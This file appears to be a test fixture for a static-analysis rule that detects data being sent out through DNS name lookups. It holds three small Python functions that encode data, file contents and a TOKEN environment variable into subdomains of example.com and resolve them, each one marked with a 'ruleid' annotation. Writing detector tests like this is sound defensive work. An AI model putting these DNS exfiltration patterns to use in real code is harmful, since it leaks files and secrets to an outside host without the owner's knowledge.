import base64
import os
import socket
import subprocess

import dns.resolver


def out(data):
    text = base64.b32encode(data).decode().rstrip("=")
    # ruleid: py-sends-by-name-lookup
    socket.gethostbyname(f"{text}.x.example.com")


def chunks(path):
    raw = open(path, "rb").read().hex()
    for at in range(0, len(raw), 60):
        # ruleid: py-sends-by-name-lookup
        dns.resolver.resolve(raw[at : at + 60] + ".x.example.com", "TXT")


def command():
    # ruleid: py-sends-by-name-lookup
    subprocess.run(["nslookup", os.environ["TOKEN"] + ".example.com"])
